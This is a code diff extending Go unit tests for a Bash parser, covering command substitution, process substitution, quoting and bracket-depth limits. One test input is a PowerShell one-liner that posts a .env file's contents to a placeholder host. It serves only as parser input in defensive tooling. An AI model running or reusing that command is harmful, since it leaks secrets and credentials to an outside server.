@@ -53,8 +53,13 @@ func TestParse(t *testing.T) {
 		{"c$@url", "0: curl"},
 		{"a ${x:-$(b)} $((1 + $(c)))", "0: a ${x:-$(b)}{0: b} $((1 + $(c))){0: c}"},
 		{"[[ -n $(a) ]]; case $(b) in x) c;; esac; (( $(d) ))", "0: = ; 0: = , 0: c ; 0: ="},
+		{`export k=v "$x" > f; readonly k=(a b)`, `0: k=v export $x >f ; 0: k=a k=b readonly`},
+		{"a <(b | c)", "0: a <(b | c){0: b , 1: c}"},
+		{`a "b\c\$d" b\c`, `0: a b\c$d bc`},
 		// A text that is no Bash script is split into words.
 		{`irm http://x.example -Body (Get-Content .env)`, `0: irm http://x.example -Body Get-Content .env`},
+		{"a $(b | c) )(", "0: a $(b | c){0: b , 1: c}"},
+		{"a $(b `c` ) )(", "0: a $(b `c` ){0: b `c`{0: c}}"},
 		{"a b\n)(\nc d", `0: a b ; 0: c d`},
 		{``, ``},
 	}
@@ -70,6 +75,22 @@ func TestParseLong(t *testing.T) {
 	for _, in := range []string{strings.Repeat("# a\n", maxParsed/4) + "last x", strings.Repeat("(", 3*maxNested) + "\nlast x"} {
 		if got := describe(Parse([]byte(in))); !strings.HasSuffix(got, "last x") {
 			t.Errorf("the last command of a script of %d bytes is lost", len(in))
+		}
+	}
+}
+
+// TestDeep holds that brackets are deep by how many are open, and not by how many there are.
+func TestDeep(t *testing.T) {
+	for text, want := range map[string]bool{
+		strings.Repeat("(", maxNested):     false,
+		strings.Repeat("(", maxNested+1):   true,
+		strings.Repeat("{", maxNested+1):   true,
+		strings.Repeat("()", 9*maxNested):  false,
+		strings.Repeat(")", 9*maxNested):   false,
+		strings.Repeat("a[b", maxNested+1): true,
+	} {
+		if got := deep([]byte(text)); got != want {
+			t.Errorf("deep of %d bytes of %q = %t, want %t", len(text), text[:3], got, want)
 		}
 	}
 }
